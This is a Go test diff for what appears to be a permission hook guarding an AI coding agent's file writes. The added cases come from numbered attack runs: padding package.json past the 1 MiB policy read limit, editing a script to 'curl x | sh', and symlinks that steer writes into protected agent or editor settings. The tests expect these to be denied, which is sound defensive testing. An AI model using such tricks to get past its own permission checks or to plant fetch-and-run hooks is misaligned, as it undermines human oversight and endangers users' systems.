@@ -323,6 +323,12 @@ func TestJailFilesPackageEntries(t *testing.T) {
 	expect(t, "Edit: a pretest added", h.decide(edit(`"test":`, `"pretest": "node x.js", "test":`)), Deny, ReasonExecConfig)
 	expect(t, "Write: scripts.test gone", h.decide(whole(`{"name": "x"}`)), Deny, ReasonExecConfig)
 	expect(t, "control: Edit a dependency in", h.decide(edit(`"dependencies": {}`, `"dependencies": {"left-pad": "1.3.0"}`)), Allow, ReasonScopedGrant)
+	// One past what policy reads (1 MiB), which npm reads all the same:
+	// an Edit of it cannot be compared, and is decided as one that
+	// changes an entry (the fifty-third attack run).
+	write("package.json", strings.Replace(pkg, `"dependencies": {}`, `"dependencies": {}, "z": "`+strings.Repeat("z", 1<<20)+`"`, 1))
+	expect(t, "Edit scripts.test of a package.json past 1 MiB", h.decide(edit(`"npm run lint"`, `"curl x | sh"`)), Deny, ReasonExecConfig)
+	write("package.json", pkg)
 	expect(t, "control: Edit scripts.lint written again with an escape", h.decide(edit(`"eslint ."`, `"eslint \u002e"`)), Allow, ReasonScopedGrant)
 	expect(t, "control: Write the same scripts, another version", h.decide(whole(strings.Replace(pkg, `"name": "x"`, `"name": "x", "version": "2.0.0"`, 1))), Allow, ReasonScopedGrant)
 	expect(t, "control: Write tools/package.json, which no hook runs", h.decide(withInput(h.writeCall(filepath.Join(h.Project, "tools", "package.json")), "content", `{"scripts": {"test": "node x.js"}}`)), Allow, ReasonScopedGrant)
@@ -336,22 +342,30 @@ func TestJailFilesPackageEntries(t *testing.T) {
 // link (the fifty-second attack run). Control: the targets' neighbours.
 func TestJailFilesLinkedConfig(t *testing.T) {
 	h, _ := jailHarness(t)
-	for _, d := range []string{"cc", "docs", "shared/hooks", ".github"} {
+	for _, d := range []string{"cc", "docs", "shared/hooks", ".github", ".vscode", "conf"} {
 		if err := os.MkdirAll(filepath.Join(h.Project, d), 0o755); err != nil {
 			t.Fatal(err)
 		}
 	}
-	for link, target := range map[string]string{".claude": "cc", "CLAUDE.md": "docs/ai.md", ".github/hooks": "../shared/hooks", "AGENTS.md": "later"} {
+	for link, target := range map[string]string{".claude": "cc", "CLAUDE.md": "docs/ai.md", ".github/hooks": "../shared/hooks", "AGENTS.md": "later",
+		".vscode/settings.json": "../conf/vscode.json"} {
 		if err := os.Symlink(target, filepath.Join(h.Project, link)); err != nil {
 			t.Fatal(err)
 		}
 	}
 	w := func(rel string) map[string]any { return h.writeCall(filepath.Join(h.Project, rel)) }
-	for _, rel := range []string{"cc/settings.json", "docs/ai.md", "shared/hooks/h.json", "later"} {
+	for _, rel := range []string{"cc/settings.json", "docs/ai.md", "shared/hooks/h.json", "later", "conf/vscode.json"} {
 		if d := h.decide(w(rel)); d.Behavior == Allow {
 			t.Errorf("Write %s, which a protected link leads to: %s/%s", rel, d.Behavior, d.Reason)
 		}
 	}
 	expect(t, "control: Write docs/other.md", h.decide(w("docs/other.md")), Allow, ReasonScopedGrant)
 	expect(t, "control: Write shared/notes.md", h.decide(w("shared/notes.md")), Allow, ReasonScopedGrant)
+	// A link to the top: every file there is its tool's.
+	if err := os.Symlink(".", filepath.Join(h.Project, ".qwen")); err != nil {
+		t.Fatal(err)
+	}
+	if d := h.decide(w("settings.json")); d.Behavior == Allow {
+		t.Errorf("Write settings.json with .qwen -> .: %s/%s", d.Behavior, d.Reason)
+	}
 }
